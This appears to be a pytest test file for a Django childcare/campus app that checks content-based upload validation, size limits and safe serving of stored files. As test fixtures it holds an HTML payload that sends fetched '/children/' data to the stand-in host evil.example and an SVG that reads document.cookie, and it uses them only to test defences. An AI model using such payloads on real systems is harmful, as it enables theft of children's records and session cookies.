"""Uploaded files are what their field needs (checked by content), within a size limit, and stored
files are shown in the browser only when they are verified images or PDFs."""

import io
import time

import pytest
from django.apps import apps
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from django.utils import translation
from PIL import Image

from campus.roles import Role
from campus.uploads import IMAGE, PDF, UploadValidator, validate_upload
from health.models import MedicationRequest
from tests import factories

HTML = b"<html><body><script>fetch('/children/').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def image_bytes(fmt="PNG", size=(40, 30)) -> bytes:
    return factories.make_image(fmt, size, (200, 30, 30))


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP"])
def test_real_images_pass(fmt):
    assert validate_upload(upload(f"x.{fmt.lower()}", image_bytes(fmt)), (IMAGE,)) == IMAGE


def test_a_pdf_passes_where_a_pdf_is_wanted_and_not_where_a_photo_is():
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"
    assert validate_upload(upload("scan.pdf", pdf), (IMAGE, PDF)) == PDF
    with pytest.raises(ValidationError):
        validate_upload(upload("scan.pdf", pdf), (IMAGE,))


@pytest.mark.parametrize("name,content", [
    ("form.html", HTML), ("form.svg", SVG), ("form.jpg", HTML),  # the name or the browser's type count for nothing
    ("form.jpg", b"\xff\xd8\xff\xe0 not really a jpeg" + HTML),  # a JPEG header over a page
    ("cut.png", image_bytes("PNG", (400, 400))[:200]),  # a truncated image fails when decoded
    ("x.bmp", image_bytes("BMP")),  # a format Pillow reads but a phone never sends
])
def test_anything_else_is_refused_with_a_chinese_message(name, content):
    with translation.override("zh-hans"), pytest.raises(ValidationError) as exc:
        validate_upload(upload(name, content, "image/jpeg"), (IMAGE, PDF))
    assert exc.value.messages == ["请上传照片（JPEG、PNG、GIF 或 WebP）或 PDF，其他文件不能上传。"]


def test_a_file_over_the_limit_is_refused_before_it_is_read(settings):
    settings.UPLOAD_IMAGE_MAX_MB = 1
    settings.UPLOAD_PDF_MAX_MB = 3
    big = b"%PDF-1.7\n" + b"0" * (4 * 1024 * 1024)
    started = time.perf_counter()
    with translation.override("zh-hans"), pytest.raises(ValidationError) as exc:
        validate_upload(upload("big.pdf", big), (IMAGE, PDF))
    assert exc.value.messages == ["文件超过 3 MB。"] and time.perf_counter() - started < 0.1
    # Each kind has its own limit: a 1.5 MB PDF passes where a 1.5 MB photo would not.
    assert validate_upload(upload("ok.pdf", big[: 3 * 512 * 1024]), (IMAGE, PDF)) == PDF
    noisy = io.BytesIO()
    Image.effect_noise((800, 800), 120).convert("RGB").save(noisy, "PNG")
    photo = noisy.getvalue()
    assert 1024 * 1024 < len(photo) < 3 * 1024 * 1024
    with pytest.raises(ValidationError, match="1 MB"):
        validate_upload(upload("big.png", photo), (IMAGE, PDF))


def test_every_file_field_of_the_project_checks_its_uploads():
    for label in django_settings.HOUQIN_APPS:
        for model in apps.get_app_config(label).get_models():
            for field in model._meta.concrete_fields:
                if isinstance(field, models.FileField):
                    assert any(isinstance(v, UploadValidator) for v in field.validators), f"{model.__name__}.{field.name}"


@pytest.mark.django_db
def test_a_teacher_cannot_store_a_page_as_the_medication_form(client, world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(world.user(Role.TEACHER))
    day = "2025-03-03"
    data = {"child": world.child.pk, "drug": "小儿止咳糖浆", "dose": "5 ml", "times": "10:00", "route": "oral",
            "starts_on": day, "ends_on": day}
    for name, content in [("form.html", HTML), ("form.svg", SVG)]:
        response = client.post(reverse("health:medication_add"), {**data, "form_photo": upload(name, content, "text/html")},
                               HTTP_ACCEPT_LANGUAGE="zh-hans")
        assert response.status_code == 200
        assert "请上传照片（JPEG、PNG、GIF 或 WebP）或 PDF" in response.content.decode()
    assert not MedicationRequest.objects.exists() and not list(tmp_path.rglob("*.*"))
    response = client.post(reverse("health:medication_add"), {**data, "form_photo": upload("form.jpg", image_bytes("JPEG"))})
    assert response.status_code == 302 and MedicationRequest.objects.get().form_photo.name.endswith(".jpg")


# --- serving stored files -------------------------------------------------------------------------------

@pytest.fixture
def stored(world, settings, tmp_path):
    """A medication request whose stored form is ``content`` (files stored before the check existed)."""
    settings.MEDIA_ROOT = tmp_path

    def store(name, content):
        req = MedicationRequest.objects.create(
            campus=world.campus, child=world.child, drug="药", dose="5 ml", times=["10:00"], route="oral",
            starts_on="2025-03-03", ends_on="2025-03-03", form_photo=ContentFile(content, name=name))
        return req.form_photo.name
    return store


def get(client, world, path):
    client.force_login(world.user(Role.DIRECTOR))
    response = client.get(reverse("campus:media", args=[path]))
    assert response.status_code == 200
    return response


@pytest.mark.django_db
@pytest.mark.parametrize("name,content", [("form.html", HTML), ("form.svg", SVG), ("form.jpg", HTML)])
def test_a_stored_page_is_a_download_never_a_page(client, world, stored, name, content):
    response = get(client, world, stored(name, content))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_verified_image_or_pdf_is_shown_with_the_type_of_its_content(client, world, stored):
    response = get(client, world, stored("form.pdf", image_bytes("PNG")))  # the content decides, not the name
    assert response["Content-Type"] == "image/png" and response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in response["Content-Security-Policy"]
    response = get(client, world, stored("form.pdf", b"%PDF-1.7\n%%EOF"))
    assert response["Content-Type"] == "application/pdf" and response["Content-Disposition"].startswith("inline;")


def test_a_truncated_image_is_refused_after_weasyprint_made_pillow_lenient():
    """WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process when it is imported (every
    web and worker process that renders a PDF): the upload check must still refuse a cut-off photo."""
    import weasyprint  # noqa: F401 - imported for its side effect on Pillow
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES
    with pytest.raises(ValidationError):
        validate_upload(upload("cut.png", image_bytes("PNG", (400, 400))[:200], "image/png"), (IMAGE,))
    assert ImageFile.LOAD_TRUNCATED_IMAGES  # left as WeasyPrint wants it
